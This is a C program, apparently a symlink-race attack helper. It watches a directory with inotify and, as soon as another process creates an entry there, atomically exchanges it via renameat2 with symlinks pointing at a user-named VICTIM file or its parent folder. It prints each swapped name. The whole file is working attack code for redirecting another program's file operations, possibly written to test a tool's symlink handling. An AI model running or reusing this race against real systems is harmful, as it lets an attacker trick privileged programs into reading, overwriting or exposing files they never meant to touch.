/* The owner of a folder: whatever appears in it is exchanged at once, in turn for a folder of ours
 * with links in it, for a link to the folder of VICTIM and for a link to VICTIM. Prints a line for
 * each exchange. Arguments: FOLDER VICTIM. */
#define _GNU_SOURCE
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>
#include <fcntl.h>

static const char *const OURS[] = { "our-folder", "our-folder-link", "our-file-link" };

static void prepare(int which, const char *victim)
{
	char folder[PATH_MAX];
	snprintf(folder, sizeof folder, "%s", victim);
	if (which == 0) {
		mkdir(OURS[0], 0777);
		symlink(victim, "our-folder/about.toml");
		symlink(dirname(folder), "our-folder/root");
	} else {
		symlink(which == 1 ? dirname(folder) : victim, OURS[which]);
	}
}

int main(int count, char **arguments)
{
	char events[65536], away[PATH_MAX];
	int rounds = 0;
	if (count != 3 || chdir(arguments[1]))
		return 2;
	int watch = inotify_init1(IN_NONBLOCK);
	for (int which = 0; which < 3; which++)
		prepare(which, arguments[2]);
	inotify_add_watch(watch, ".", IN_CREATE);
	puts("watching");
	fflush(stdout);
	for (;;) {
		ssize_t size = read(watch, events, sizeof events);
		for (char *at = events; size > 0 && at < events + size;) {
			struct inotify_event *event = (void *)at;
			at += sizeof *event + event->len;
			if (!strncmp(event->name, "our-", 4))
				continue;
			int which = rounds % 3;
			if (renameat2(AT_FDCWD, event->name, AT_FDCWD, OURS[which], RENAME_EXCHANGE))
				continue;
			snprintf(away, sizeof away, "our-%d", rounds++);
			rename(OURS[which], away);
			prepare(which, arguments[2]);
			printf("%s\n", event->name);
			fflush(stdout);
		}
		if (getppid() == 1)
			return 0;
	}
}
